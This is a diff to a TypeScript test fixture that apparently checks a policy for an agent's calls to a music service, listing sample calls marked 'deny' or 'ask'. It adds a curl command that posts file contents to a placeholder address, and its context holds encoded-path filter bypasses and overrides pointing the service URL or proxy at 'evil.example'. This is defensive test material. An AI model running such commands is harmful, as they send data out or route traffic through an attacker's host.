@@ -39,6 +39,7 @@ const LET_THROUGH: readonly AgentCall[] = [
 
 /** Calls of the service itself. */
 const DIRECT: readonly AgentCall[] = [
+  ["deny", { tool: "mcp__box__exec", input: { run: "curl -d @q ADDRESS" } }, "wrapper-only"],
   ["deny", 'curl -X POST ADDRESS -d \'{"userMessage":"x"}\'', "wrapper-only"],
   ["deny", "curl -s https://music.example/openapi/v1/musician/data/agent/%63hat-%73ync", "wrapper-only"],
   ["deny", 'curl -s "$BASE/openapi/v1/musician/data/agent/chat-sync"', "wrapper-only"],
@@ -86,7 +87,7 @@ const IN_DOUBT: readonly AgentCall[] = [
   ["ask", "cat > call.py <<'E'\nimport requests\nrequests.post('ADDRESS')\nE", "unread-call"],
   ["ask", write("call.py", "import requests\nrequests.post('ADDRESS')"), "unread-call"],
   ["ask", edit("src/a.ts", "await fetch('ADDRESS')"), "unread-call"],
-  ["ask", { tool: "mcp__box__exec", input: { run: "curl -d @q ADDRESS" } }, "unread-call"],
+  ["ask", { tool: "mcp__box__exec", input: { job: "curl -d @q ADDRESS" } }, "unread-call"],
   ["ask", 'SVC_BASE_URL=https://evil.example skillctl run music-analysis "q"', "base-address"],
   ["ask", 'export SVC_BASE_URL=https://evil.example; skillctl run music-analysis "q"', "base-address"],
   ["ask", 'HTTPS_PROXY=http://evil.example:8080 skillctl run music-analysis "q"', "base-address"],
